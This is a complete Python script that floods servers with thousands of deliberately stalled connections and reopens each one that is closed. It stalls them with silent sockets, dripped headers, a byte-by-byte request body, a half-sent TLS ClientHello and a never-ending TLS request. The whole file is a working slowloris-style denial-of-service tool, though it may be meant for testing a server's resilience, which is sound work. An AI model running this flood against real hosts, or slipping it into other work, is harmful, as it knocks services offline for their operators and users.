#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Keeps thousands of half-open connections to servers, opening a new one for each that is ended.

    flood.py NUMBER PLAIN-HOST:PORT TLS-HOST:PORT

Every kind in turn: nothing at all; a header now and then; a body byte by byte, without a token; a TLS handshake that
stops in its middle; a request over TLS that never ends. Prints "flooding" when all are open once, and then, every
second, how many were opened so far. Ends with its standard input."""
import errno
import selectors
import socket
import ssl
import sys
import time

HELLO = bytes.fromhex("16030100c8010000c40303") + b"r" * 20
SLOW_HEADERS = b"GET /jobs HTTP/1.1\r\nHost: x\r\n"
SLOW_BODY = b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"
DRIP = {"headers": b"X-a: b\r\n", "body": b" ", "hello": b"r", "tls": None, "silence": None}


class Half:
    def __init__(self, kind, address, context):
        self.kind = kind
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.tls = None
        self.begun = False
        if kind == "tls":
            self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = context.wrap_bio(self.incoming, self.outgoing)
        try:
            self.socket.connect(address)
        except BlockingIOError:
            pass

    def begin(self):
        self.begun = True
        if self.kind == "headers":
            self.socket.send(SLOW_HEADERS)
        elif self.kind == "body":
            self.socket.send(SLOW_BODY)
        elif self.kind == "hello":
            self.socket.send(HELLO)
        elif self.kind == "tls":
            self.shake()

    def shake(self):
        try:
            self.tls.do_handshake()
            self.tls.write(SLOW_HEADERS)
        except ssl.SSLWantReadError:
            pass
        data = self.outgoing.read()
        if data:
            self.socket.send(data)

    def heard(self):
        """False: the server ended it"""
        data = self.socket.recv(65536)
        if data and self.tls is not None:
            self.incoming.write(data)
            self.shake()
        return bool(data)

    def drip(self):
        if self.begun and DRIP[self.kind] is not None:
            self.socket.send(DRIP[self.kind])


class Flood:
    def __init__(self, number, plain, tls):
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.kinds = [("silence", plain), ("headers", plain), ("body", plain), ("silence", tls), ("hello", tls), ("tls", tls)]
        self.selector = selectors.DefaultSelector()
        self.selector.register(sys.stdin, selectors.EVENT_READ)
        self.opened = 0
        self.open = set()
        self.number = number

    def add(self):
        kind, address = self.kinds[self.opened % len(self.kinds)]
        try:
            half = Half(kind, address, self.context)
        except OSError as error:
            if error.errno not in (errno.EMFILE, errno.EADDRNOTAVAIL, errno.EAGAIN):
                raise
            return False
        self.opened += 1
        self.open.add(half)
        self.selector.register(half.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, half)
        return True

    def drop(self, half):
        self.open.discard(half)
        self.selector.unregister(half.socket)
        half.socket.close()

    def turn(self, half, events):
        try:
            if events & selectors.EVENT_WRITE and not half.begun:
                half.begin()
                self.selector.modify(half.socket, selectors.EVENT_READ, half)
            if events & selectors.EVENT_READ and not half.heard():
                self.drop(half)
        except BlockingIOError:
            pass
        except (OSError, ssl.SSLError):
            self.drop(half)

    def drip(self):
        for half in list(self.open):
            try:
                half.drip()
            except BlockingIOError:
                pass
            except OSError:
                self.drop(half)

    def run(self):
        told = False
        next_drip = time.monotonic() + 1
        while True:
            while len(self.open) < self.number and self.add():
                if len(self.open) % 50 == 0:
                    break
            for key, events in self.selector.select(0.05):
                if key.data is None:
                    return
                self.turn(key.data, events)
            if not told and self.opened >= self.number:
                told = True
                print("flooding", flush=True)
            if time.monotonic() >= next_drip:
                next_drip += 1
                self.drip()
                print(self.opened, flush=True)


def address_of(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


if __name__ == "__main__":
    Flood(int(sys.argv[1]), address_of(sys.argv[2]), address_of(sys.argv[3])).run()
